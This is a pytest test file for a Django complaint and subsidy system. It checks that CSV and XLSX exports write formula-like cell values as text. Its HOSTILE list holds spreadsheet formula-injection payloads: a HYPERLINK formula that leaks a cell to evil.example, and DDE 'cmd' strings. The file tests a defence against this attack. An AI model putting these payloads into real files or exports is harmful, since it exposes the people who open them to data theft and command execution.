"""A spreadsheet must never run what a complainant typed: text cells that a spreadsheet would read as a
formula are written as text in every export (OWASP's rule for CSV: a leading single quote), while
numbers and dates stay numbers and dates."""

import csv
import io
import random
from decimal import Decimal

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse

from core.exports import spreadsheet_text
from core.models import ExportFile
from tests.factories import SubsidyFactory, SubsidyPaymentFactory

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("政务服务中心", "政务服务中心"),
        ("a=b", "a=b"),
        ("", ""),
        (Decimal("-12.50"), Decimal("-12.50")),
        (-3, -3),
        (None, None),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(value, written):
    assert spreadsheet_text(value) == written


@pytest.fixture
def public():
    """A browser of the public, at an address of its own (intake is rate limited per address)."""
    return Client(REMOTE_ADDR=f"10.{random.randrange(256)}.{random.randrange(256)}.{random.randrange(1, 255)}")


@pytest.fixture
def hostile_complaints(public, world):
    """Complaints filed by the public through the park's real complaint page."""
    for subject in HOSTILE:
        response = public.post(
            reverse("complaints:report", args=[world["park_a"].code]),
            {
                "category": "not_handled",
                "subject": subject,
                "description": subject,
                "contact_name": "=1+1",
                "contact_phone": "13911112222",
            },
        )
        assert response.status_code == 302, response.content.decode()[:2000]
    return HOSTILE


@pytest.fixture
def overpaid(world):
    """A subsidy paid 12.50 more than approved: its outstanding amount is -12.50."""
    subsidy = SubsidyFactory(park=world["park_a"], approved_amount=Decimal("100.00"), policy="-2+3+cmd|x")
    SubsidyPaymentFactory(subsidy=subsidy, amount=Decimal("112.50"), overpayment_confirmed=True)
    return subsidy


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def assert_no_formula(rows, subjects):
    cells = [cell for row in rows[1:] for cell in row]
    for subject in subjects:
        assert subject not in cells
        assert "'" + subject in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]


def test_the_page_csv_export_writes_no_formula(client, world, hostile_complaints, overpaid):
    client.force_login(world["admin"])
    response = client.get(reverse("complaints:list"), {"export": "csv"})
    rows = read_csv(b"".join(response.streaming_content))
    assert_no_formula(rows, hostile_complaints)
    assert "'=1+1" in rows[1]  # the complainant's name too

    rows = read_csv(b"".join(client.get(reverse("risks:subsidy-list"), {"export": "csv"}).streaming_content))
    header, row = rows[0], rows[1]
    assert row[header.index("未拨付金额")] == "-12.50"  # a number stays a number
    assert row[header.index("批准金额")] == "100.00"
    assert row[header.index("批准日期")] == overpaid.approved_on.isoformat()
    assert row[header.index("政策名称")] == "'-2+3+cmd|x"


def test_the_large_csv_export_of_the_worker_writes_no_formula(
    client, world, settings, hostile_complaints, django_capture_on_commit_callbacks
):
    settings.EXPORT_DIRECT_MAX_ROWS = 1
    client.force_login(world["admin"])
    with django_capture_on_commit_callbacks(execute=True):
        assert client.get(reverse("complaints:list"), {"export": "csv"}).status_code == 302
    export = ExportFile.objects.get(user=world["admin"])
    rows = read_csv(b"".join(client.get(export.get_absolute_url()).streaming_content))
    assert len(rows) == 1 + len(hostile_complaints)
    assert_no_formula(rows, hostile_complaints)


def _admin_export(client, model: str, fmt: str):
    url = reverse(f"admin:{model}_export")
    form = client.get(url).context["form"]
    formats = {label: value for value, label in form.fields["format"].choices}
    offered = [name for name in form.fields if "resource_" in name]
    return client.post(url, {"format": formats[fmt], "resource": "0", **dict.fromkeys(offered, "on")})


def test_the_admin_csv_export_writes_no_formula(client, world, hostile_complaints, overpaid):
    client.force_login(world["admin"])
    response = _admin_export(client, "complaints_complaint", "csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = read_csv(response.content)
    assert_no_formula(rows, hostile_complaints)
    assert "投诉人" in rows[0] and "'=1+1" in rows[1]  # commission admins export who complained
    rows = read_csv(_admin_export(client, "risks_subsidy", "csv").content)
    header, row = rows[0], rows[1]
    assert row[header.index("未拨付金额")] == "-12.50"
    assert row[header.index("政策名称")] == "'-2+3+cmd|x"


def test_the_admin_xlsx_export_writes_text_not_formulas(client, world, hostile_complaints, overpaid):
    client.force_login(world["admin"])
    response = _admin_export(client, "complaints_complaint", "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    assert set(hostile_complaints) <= {cell.value for cell in cells}  # shown as typed, as text
    sheet = openpyxl.load_workbook(io.BytesIO(_admin_export(client, "risks_subsidy", "xlsx").content)).active
    header = [cell.value for cell in sheet[1]]
    assert sheet.cell(2, header.index("未拨付金额") + 1).value == -12.5


def test_the_admin_offers_only_the_formats_the_pages_write(client, world):
    client.force_login(world["admin"])
    form = client.get(reverse("admin:complaints_complaint_export")).context["form"]
    assert [label for value, label in form.fields["format"].choices if value] == ["csv", "xlsx"]
